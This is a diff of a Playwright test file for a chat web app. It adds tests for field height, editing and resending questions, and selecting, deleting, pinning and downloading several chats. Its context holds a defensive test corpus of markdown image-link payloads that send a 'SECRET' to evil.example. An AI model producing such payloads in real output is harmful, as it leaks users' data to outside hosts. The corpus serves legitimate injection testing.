@@ -1,5 +1,6 @@
+import { readFile } from "node:fs/promises";
 import type { Page } from "@playwright/test";
-import { axe, expect, test } from "./base";
+import { axe, expect, served, test } from "./base";
 
 const field = (page: Page) => page.getByLabel("Your message", { exact: true });
 const answers = (page: Page) => page.getByRole("article", { name: "Answer" });
@@ -217,6 +218,44 @@ test("instructions and drafts are kept; keys are listed; long pastes are files",
   await expect(field(page)).toHaveValue("Half a thou");
 });
 
+test("the field is as high as its lines, up to two fifths of the page", async ({ page }) => {
+  await page.goto("/chat");
+  const height = async (lines: number) => {
+    await field(page).fill("line\n".repeat(lines));
+    return field(page).evaluate((node) => [node.clientHeight, node.scrollHeight] as const);
+  };
+  const [one] = await height(0);
+  const [six, wanted] = await height(6);
+  expect(six).toBeGreaterThan(2 * one);
+  expect(six).toBe(wanted);
+  const [most, all] = await height(60);
+
+  expect(most).toBe(0.4 * 900);
+  expect(all).toBeGreaterThan(most);
+});
+
+test("a changed question that was saved is there after a reload, and is asked from there", async ({
+  page,
+  engine,
+}) => {
+  await engine({ answers: ["Answer one.", "Answer two."] });
+  await page.goto("/chat");
+  await asked(page, "First wording", "Answer one.");
+  await field(page).press("ArrowUp");
+  await page.getByLabel("Edit your message").fill("Second wording");
+  await page.keyboard.press("Control+s");
+  const unsent = page.getByRole("region", { name: "Changed, not sent yet" });
+  await expect(unsent).toContainText("Second wording");
+  await expect(field(page)).toBeFocused();
+  await page.reload();
+  await expect(page.getByRole("article", { name: "You" })).toContainText("First wording");
+  await unsent.getByRole("button", { name: "Ask this" }).click();
+  await expect(answers(page)).toContainText("Answer two.");
+
+  await expect(page.getByRole("group", { name: "Version 2 of 2" })).toBeAttached();
+  await expect(unsent).toBeHidden();
+});
+
 const CORPUS = [
   "![](https://evil.example/?q=SECRET)",
   "![x][ref]\n\n[ref]: https://evil.example/?q=SECRET",
@@ -255,4 +294,144 @@ test("nothing that a model or a person writes runs or asks elsewhere (S-20, S-24
   ).toBe(0);
   expect(await page.evaluate(() => "__pwned" in window)).toBe(false);
   expect(strays).toEqual([]);
+});
+
+const links = (page: Page) => page.getByRole("region", { name: "Chats" }).locator("a[data-row]");
+const boxes = (page: Page) => page.getByRole("region", { name: "Chats" }).locator("input[data-row]");
+const selected = (page: Page) => page.getByRole("group", { name: "Selected chats" });
+
+/** Opens the page with the chats of one word in sight, the last one first. */
+async function listed(page: Page, word: string, count: number): Promise<void> {
+  for (let number = 1; number <= count; number++) {
+    await page.request.post("/api/conversations", {
+      data: { title: `${word} ${number}` },
+      headers: { origin: served().url },
+    });
+  }
+  await page.goto("/chat");
+  await page.getByLabel("Search chats").fill(word);
+  await expect(links(page)).toHaveCount(count);
+}
+
+test("several chats are selected by mouse, deleted at once, and brought back by one offer", async ({
+  page,
+}) => {
+  await listed(page, "Otter", 5);
+  await links(page)
+    .nth(1)
+    .click({ modifiers: ["ControlOrMeta"] });
+  await boxes(page)
+    .nth(3)
+    .click({ modifiers: ["Shift"] });
+  await expect(selected(page)).toContainText("3 selected");
+  await boxes(page).nth(2).click();
+  await expect(boxes(page).filter({ has: page.locator(":scope:checked") })).toHaveCount(2);
+  expect(await axe(page)).toEqual([]);
+  await selected(page).getByRole("button", { name: "Delete" }).click();
+  await expect(page.getByText("2 chats are deleted.").first()).toBeVisible();
+  await expect(links(page)).toHaveText(["Otter 5", "Otter 3", "Otter 1"]);
+  await page.getByRole("button", { name: "Undo" }).click();
+
+  await expect(links(page)).toHaveCount(5);
+});
+
+test("chats are selected by keys, and Esc leaves them as they were", async ({ page }) => {
+  await listed(page, "Heron", 4);
+  await links(page).first().focus();
+  await page.keyboard.press("Shift+ArrowDown");
+  await expect(boxes(page).first()).toBeFocused();
+  await expect(boxes(page).first()).toBeChecked();
+  await page.keyboard.press("Shift+ArrowDown");
+  await page.keyboard.press("ArrowDown");
+  await page.keyboard.press("Space");
+  await expect(selected(page)).toContainText("3 selected");
+  await page.keyboard.press("Control+a");
+  await expect(selected(page)).toContainText("4 selected");
+  await expect(selected(page).getByLabel("Select all that are shown")).toBeChecked();
+  await page.keyboard.press("Escape");
+  await expect(links(page)).toHaveCount(4);
+  await expect(links(page).nth(2)).toBeFocused();
+
+  await page.keyboard.press("Shift+ArrowUp");
+  await expect(boxes(page).nth(2)).toBeFocused();
+  await page.keyboard.press("Delete");
+  await expect(links(page)).toHaveText(["Heron 4", "Heron 3", "Heron 1"]);
+  await expect(links(page).nth(2)).toBeFocused();
+  await page.keyboard.press("Control+z");
+
+  await expect(links(page)).toHaveCount(4);
+});
+
+test("selected chats are pinned and saved as one file, and one that is refused is told by its name", async ({
+  page,
+}) => {
+  await listed(page, "Ibis", 3);
+  await links(page)
+    .first()
+    .click({ modifiers: ["ControlOrMeta"] });
+  await boxes(page)
+    .last()
+    .click({ modifiers: ["Shift"] });
+  const saved = page.waitForEvent("download");
+  const menu = selected(page).getByRole("button", { name: "Download" });
+  await menu.press("Enter");
+  await page.keyboard.press("ArrowDown");
+  await expect(page.getByRole("menuitem", { name: "Download as JSON" })).toBeFocused();
+  await page.keyboard.press("ArrowUp");
+  await page.keyboard.press("Enter");
+  const file = await saved;
+  expect(file.suggestedFilename()).toMatch(/^haru-chats-.+\.md$/);
+  expect((await readFile(await file.path(), "utf8")).match(/^# .+$/gm)).toEqual([
+    "# Ibis 3",
+    "# Ibis 2",
+    "# Ibis 1",
+  ]);
+  await expect(selected(page)).toBeHidden();
+
+  let isFirst = true;
+  await page.route("**/api/conversations/*", (route) => {
+    const refuses = isFirst && route.request().method() === "PATCH";
+    if (refuses) isFirst = false;
+    return refuses
+      ? route.fulfill({ status: 503, json: { code: "busy", message: "Try later." } })
+      : route.fallback();
+  });
+  await links(page)
+    .first()
+    .click({ modifiers: ["Shift"] });
+  await expect(boxes(page).first()).toBeFocused();
+  await page.keyboard.press("Control+a");
+  await menu.press("Enter");
+  await page.keyboard.press("Escape");
+  await expect(menu).toBeFocused();
+  await selected(page).getByRole("button", { name: "Pin", exact: true }).click();
+  await expect(page.getByText("Not changed: Ibis 3. Try later.").first()).toBeVisible();
+
+  await expect(page.getByRole("region", { name: "Pinned" }).locator("a[data-row]")).toHaveText([
+    "Ibis 2",
+    "Ibis 1",
+  ]);
+});
+
+test("the chat that is shown, deleted with others, leads to a new one; whoever leaves meant it", async ({
+  page,
+}) => {
+  await listed(page, "Loon", 12);
+  await links(page).nth(4).click();
+  await expect(page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/);
+  await page.getByLabel("Search chats").fill("Loon");
+  await expect(links(page)).toHaveCount(12);
+  await links(page)
+    .first()
+    .click({ modifiers: ["Shift"] });
+  await expect(boxes(page).first()).toBeFocused();
+  await page.keyboard.press("Control+a");
+  await page.keyboard.press("Delete");
+  await expect(page).toHaveURL(/\/chat$/);
+  await expect(field(page)).toBeFocused();
+  await page.goto("/usage");
+  const left = async () =>
+    (await (await page.request.get("/api/conversations?q=Loon")).json()).conversations.length;
+
+  await expect.poll(left).toBe(0);
 });
